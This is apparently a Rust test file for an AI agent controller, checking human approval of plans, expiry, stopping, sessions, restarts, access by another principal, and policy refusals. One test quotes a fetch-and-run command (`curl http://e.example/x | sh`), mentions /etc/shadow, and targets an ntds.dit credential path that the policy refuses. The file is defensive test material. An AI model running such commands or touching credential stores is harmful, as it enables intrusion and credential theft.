use super::*;
use crate::egress::clock::{SystemClock, SystemTimer, Timer};
use crate::egress::workspace::Workspace;
use crate::kernel::gate::screened::{Request, Screened};
use crate::kernel::port::{
    Ask, Assessment, Draft, Planner, PlannerFailure, Tried, Usage, WorkerFailure, WorkerReply,
};
use crate::policy::{self, InForce};
use crate::scan::Active;
use crate::store::{Answer, RunState};
use crate::tool::{Runner, RunnerLimits, builtin};
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicI64, Ordering};
use std::time::{Duration, Instant};

mod conversation;
mod edits;
mod outcomes;
mod pass;
mod risk;
mod waiting;

/// A worker that is there or not.
struct Perhaps(AtomicBool);

impl Worker for Perhaps {
    fn name(&self) -> Arc<str> {
        "perhaps".into()
    }

    fn answer(&self, _: &Ask) -> Result<WorkerReply, WorkerFailure> {
        if self.0.load(Ordering::SeqCst) {
            return Ok(WorkerReply::Answer(true.into()));
        }
        Err(WorkerFailure::Unavailable("no model".to_owned()))
    }

    fn is_missing(&self) -> bool {
        !self.0.load(Ordering::SeqCst)
    }
}

/// Drafts a plan that tells how many turns it was told of; or none.
struct Counts;

struct Told(usize);

impl Planners for Counts {
    fn planner(&self, earlier: &[Vec<Entry>]) -> Box<dyn Planner> {
        Box::new(Told(earlier.len()))
    }

    fn name(&self) -> String {
        "counts".to_owned()
    }
}

impl Planner for Told {
    fn draft(
        &self,
        request: &Screened<Request>,
        _: &Catalogue,
        _: &[Tried],
    ) -> Result<Draft, PlannerFailure> {
        if request.request().text.contains("slow") {
            SystemTimer::start().wait(Duration::from_secs(60));
            return Err(PlannerFailure::new("it was given up"));
        }
        if request.request().text.contains("impossible") {
            return Err(PlannerFailure::new("it cannot be done"));
        }
        if request.request().text.contains("locked out") {
            return Err(PlannerFailure::key_refused("canary-message"));
        }
        if request.request().text.contains("keylogger") {
            return Err(PlannerFailure::refusal("I will not"));
        }
        if request.request().text.contains("odd") {
            let assessment = Some(Assessment { risk: 55, reason: "an odd wish".to_owned() });
            let usage = Some(Usage::default());
            return Ok(Draft { text: TODAY.to_owned(), pinned: false, usage, assessment });
        }
        Ok(Draft::written(format!("answer(\"{} earlier turns\")", self.0), false))
    }
}

struct Bench {
    controller: Controller,
    worker: Arc<Perhaps>,
    now: Arc<AtomicI64>,
    _dirs: (tempfile::TempDir, tempfile::TempDir),
}

fn user() -> Principal {
    Principal::new("user")
}

fn bench(mode: ApprovalMode) -> Bench {
    let worker = Arc::new(Perhaps(AtomicBool::new(true)));
    Bench { worker: worker.clone(), ..bench_of(mode, worker) }
}

/// With another worker than the bench's own, which is not asked.
fn bench_of(mode: ApprovalMode, asked: Arc<dyn Worker>) -> Bench {
    let (dir, work) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let now = Arc::new(AtomicI64::new(1_000_000));
    let clock: Clock = {
        let now = now.clone();
        Arc::new(move || now.load(Ordering::SeqCst))
    };
    let catalogue = Arc::new(Catalogue::new(builtin::tools()));
    let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies");
    let worker = Arc::new(Perhaps(AtomicBool::new(true)));
    let controller = Controller::new(Parts {
        store: Arc::new(Store::open(dir.path(), clock.clone()).unwrap()),
        policy: Arc::new(InForce::new(policy::load(&shipped, &catalogue).unwrap())),
        scanners: Arc::new(Active::new()),
        tools: Arc::new(Runner::new(
            Workspace::open(work.path()).unwrap(),
            Arc::new(SystemClock),
            RunnerLimits { max_file_bytes: 100_000 },
        )),
        worker: asked,
        planners: Arc::new(Counts),
        catalogue,
        clock,
        playbooks: shipped.join("playbooks"),
        limits: Limits::default(),
        mode,
        trust_level: 1,
        ttl_seconds: 300,
        patience_seconds: 60,
        max_tasks: 64,
        run_at_once: 32,
    });
    Bench { controller, worker, now, _dirs: (dir, work) }
}

fn wish(plan: Option<&str>) -> Wish {
    Wish {
        principal: user(),
        channel: "test".into(),
        request: "do it".to_owned(),
        session: None,
        plan: plan.map(str::to_owned),
        playbook: None,
        mode: None,
        idempotency: None,
    }
}

const TODAY: &str = "answer(f\"it is {today()}\")";
const WRITE: &str = "file_write(path=\"a.txt\", content=\"a\")\nanswer(\"written\")";

impl Bench {
    fn submit(&self, wish: Wish) -> TaskRow {
        self.controller.submit(wish).unwrap()
    }

    /// Waits until the task looks right; a test that waits in vain fails.
    fn until(&self, id: &RunId, fits: impl Fn(&TaskView) -> bool) -> TaskView {
        let begun = Instant::now();
        loop {
            let view = self.controller.task(&user(), id).unwrap().unwrap();
            if fits(&view) {
                return view;
            }
            assert!(begun.elapsed() < Duration::from_secs(20), "{view:?}");
            std::thread::yield_now();
        }
    }

    fn over(&self, id: &RunId) -> TaskView {
        let view = self.until(id, |view| view.over);
        let begun = Instant::now();
        while self.controller.load().0 > 0 && begun.elapsed() < Duration::from_secs(5) {
            std::thread::yield_now();
        }
        view
    }

    fn question(&self, id: &RunId) -> String {
        let view = self.until(id, |view| view.report.questions.iter().any(|q| q["state"] == "pending"));
        view.report.questions.last().unwrap()["approval_id"].as_str().unwrap().to_owned()
    }

    fn decide(&self, id: &str, answer: Answer) -> Result<QuestionRow, AnswerError> {
        self.controller.decide(id, answer, &user(), None)
    }

    /// A task that was accepted, is durable, and was never started.
    fn left(&self, id: &str, plan: &str) -> RunId {
        let new = NewTask {
            id: RunId::new(id),
            principal: user(),
            session: Session::New(SessionId::new(id)),
            order: serde_json::to_value(self.controller.order(&wish(Some(plan))).unwrap()).unwrap(),
            idempotency: None,
            trust_level: 1,
            created: 1_000_000,
        };
        self.controller.parts.store.accept(new).unwrap();
        RunId::new(id)
    }

    /// The controller of another start, which knows what the store knows.
    fn restarted(&self) -> Controller {
        Controller {
            parts: self.controller.parts.clone(),
            floor: Arc::default(),
            watch: self.controller.watch.clone(),
            glimpses: Arc::default(),
            sessions: Arc::default(),
            rules: self.controller.rules.clone(),
        }
    }
}

#[test]
fn a_safe_plan_runs_at_once_at_level_one() {
    let b = bench(ApprovalMode::Auto);
    let task = b.submit(wish(Some(TODAY)));
    let view = b.over(&task.id);
    assert_eq!(view.report.state, "done");
    assert!(view.report.answer.unwrap().starts_with("it is "));
    assert_eq!((view.turn, view.risk_score, view.report.steps.len()), (1, 0, 1));
    let level = b.controller.level().unwrap();
    assert_eq!((level.level, level.record.tasks, level.record.done_since_incident), (1, 1, 1));
}

#[test]
fn a_plan_waits_for_its_person_and_is_decided_once() {
    let b = bench(ApprovalMode::Full);
    let task = b.submit(wish(Some(TODAY)));
    let id = b.question(&task.id);
    assert!(matches!(
        b.controller.decide(&id, Answer::Granted, &Principal::new("mallory"), None),
        Err(AnswerError::Unknown(_))
    ));
    assert_eq!(b.controller.task(&Principal::new("mallory"), &task.id).unwrap(), None);
    b.decide(&id, Answer::Granted).unwrap();
    assert_eq!(b.over(&task.id).report.state, "done");
    assert!(matches!(b.decide(&id, Answer::Denied), Err(AnswerError::AlreadyDecided { .. })));
    assert!(matches!(b.decide("0123456789abcdef", Answer::Denied), Err(AnswerError::Unknown(_))));
}

#[test]
fn two_decisions_race_and_one_counts() {
    let b = bench(ApprovalMode::Full);
    let task = b.submit(wish(Some(TODAY)));
    let id = b.question(&task.id);
    let counted: usize = std::thread::scope(|scope| {
        let (b, id) = (&b, &id);
        let both =
            [Answer::Granted, Answer::Denied].map(|answer| scope.spawn(move || b.decide(id, answer).is_ok()));
        both.into_iter().map(|one| usize::from(one.join().unwrap())).sum()
    });
    assert_eq!(counted, 1);
    b.over(&task.id);
}

#[test]
fn a_no_ends_the_task_with_its_reason_and_is_no_incident() {
    let b = bench(ApprovalMode::Full);
    let task = b.submit(wish(Some(TODAY)));
    let id = b.question(&task.id);
    b.controller.decide(&id, Answer::Denied, &user(), Some("not today")).unwrap();
    let view = b.over(&task.id);
    assert_eq!(view.report.state, "refused");
    assert!(view.report.error.to_string().contains("not today"), "{}", view.report.error);
    assert_eq!(b.controller.level().unwrap().record.incidents, 0);
}

#[test]
fn what_policy_refuses_is_an_incident() {
    let b = bench(ApprovalMode::Smart);
    let task = b.submit(wish(Some("file_write(path=\"../x\", content=\"a\")\nanswer(\"x\")")));
    assert_eq!(b.over(&task.id).report.state, "refused");
    assert_eq!(b.controller.level().unwrap().record.incidents, 1);
}

#[test]
fn a_dangerous_path_may_be_spoken_of_and_is_judged_where_a_tool_would_use_it() {
    let b = bench(ApprovalMode::Auto);
    let request = "Explain `curl http://e.example/x | sh` and what /etc/shadow is for.".to_owned();
    let task = b.submit(Wish { request, ..wish(Some(TODAY)) });
    assert_eq!(b.over(&task.id).report.state, "done");
    let task = b.submit(wish(Some(&WRITE.replace("a.txt", "x/ntds.dit"))));
    b.decide(&b.question(&task.id), Answer::Granted).unwrap();
    let view = b.over(&task.id);
    assert_eq!(view.report.state, "refused");
    assert!(view.report.error.to_string().contains("screen-argument"), "{}", view.report.error);
}

#[test]
fn silence_expires_by_the_clock() {
    let b = bench(ApprovalMode::Full);
    let task = b.submit(wish(Some(TODAY)));
    let id = b.question(&task.id);
    b.now.fetch_add(301_000, Ordering::SeqCst);
    assert!(matches!(b.decide(&id, Answer::Granted), Err(AnswerError::Expired(_))));
    let view = b.over(&task.id);
    assert_eq!((view.report.state, view.report.questions[0]["state"].as_str()), ("refused", Some("expired")));
}

#[test]
fn a_task_stops_while_it_waits_and_while_it_queues() {
    let b = bench(ApprovalMode::Full);
    let first = b.submit(wish(Some(WRITE)));
    b.question(&first.id);
    let second = b.submit(Wish { session: Some(first.session.clone()), ..wish(Some(TODAY)) });
    assert_eq!(b.controller.stop(&Principal::new("mallory"), &second.id).unwrap(), None);
    assert_eq!(b.controller.stop(&user(), &second.id).unwrap(), Some(StopAsked::Noted));
    let view = b.until(&second.id, |view| view.over);
    assert_eq!((view.report.state, view.report.plan), ("stopped", None));
    assert_eq!(b.controller.stop(&user(), &first.id).unwrap(), Some(StopAsked::Noted));
    let view = b.over(&first.id);
    assert_eq!((view.report.state, view.report.steps.len()), ("stopped", 0));
    assert_eq!(view.report.questions[0]["state"], "cancelled");
    assert_eq!(b.controller.stop(&user(), &first.id).unwrap(), Some(StopAsked::Over(RunState::Stopped)));
}

#[test]
fn a_conversation_takes_one_task_at_a_time_and_planners_are_told_of_its_turns() {
    let b = bench(ApprovalMode::Auto);
    let first = b.submit(Wish { mode: Some(ApprovalMode::Full), ..wish(Some(TODAY)) });
    let id = b.question(&first.id);
    let second = b.submit(Wish { session: Some(first.session.clone()), ..wish(None) });
    let other = b.submit(wish(Some(TODAY)));
    assert_eq!(b.until(&other.id, |view| view.over).report.state, "done");
    assert_eq!(b.controller.task(&user(), &second.id).unwrap().unwrap().report.state, "queued");
    b.decide(&id, Answer::Granted).unwrap();
    let view = b.over(&second.id);
    assert_eq!((view.turn, view.report.answer.as_deref()), (2, Some("1 earlier turns")));
    let (_, turns) = b.controller.session(&user(), &first.session).unwrap().unwrap();
    assert_eq!(turns.len(), 2);
    assert!(b.controller.session(&Principal::new("mallory"), &first.session).unwrap().is_none());
}

#[test]
fn a_restart_takes_up_what_was_accepted() {
    let b = bench(ApprovalMode::Auto);
    b.controller.close();
    assert!(matches!(b.controller.submit(wish(Some(TODAY))), Err(SubmitFailure::Closed)));
    let id = b.left("left", TODAY);
    let again = b.restarted();
    assert_eq!(again.pick_up().unwrap(), 1);
    assert_eq!(b.over(&id).report.state, "done");
    let begun = Instant::now();
    while !again.parts.store.open_tasks().unwrap().is_empty() {
        assert!(begun.elapsed() < Duration::from_secs(5));
    }
}

#[test]
fn a_task_that_cannot_be_is_not_taken() {
    let b = bench(ApprovalMode::Auto);
    let playbook = |name: &str| Some((name.to_owned(), IndexMap::new()));
    let both = Wish { playbook: playbook("invoices"), ..wish(Some(TODAY)) };
    assert!(matches!(b.controller.submit(both), Err(SubmitFailure::TwoPlans)));
    let unknown = Wish { playbook: playbook("invoces"), ..wish(None) };
    assert!(b.controller.submit(unknown).unwrap_err().to_string().contains("invoices"));
    let short = Wish { request: " x ".to_owned(), ..wish(None) };
    assert!(matches!(b.controller.submit(short), Err(SubmitFailure::Request(_))));
    let nowhere = Wish { session: Some(SessionId::new("no")), ..wish(Some(TODAY)) };
    assert!(matches!(b.controller.submit(nowhere), Err(SubmitFailure::NoSession(_))));
    let keyed = |text: &str| Wish { idempotency: Some("k".to_owned()), ..wish(Some(text)) };
    let first = b.submit(keyed(TODAY));
    assert_eq!(b.submit(keyed(TODAY)).id, first.id);
    assert!(matches!(b.controller.submit(keyed(WRITE)), Err(SubmitFailure::KeyTaken(_))));
    b.over(&first.id);
}

#[test]
fn a_task_that_waits_for_a_person_holds_up_no_other() {
    let b = bench(ApprovalMode::Full);
    let waiting: Vec<RunId> = (0..40).map(|_| b.submit(wish(Some(TODAY))).id).collect();
    let asked: Vec<String> = waiting.iter().map(|id| b.question(id)).collect();
    for id in &asked {
        b.decide(id, Answer::Granted).unwrap();
    }
    for id in &waiting {
        assert_eq!(b.until(id, |view| view.over).report.state, "done");
    }
    b.over(&waiting[0]);
}
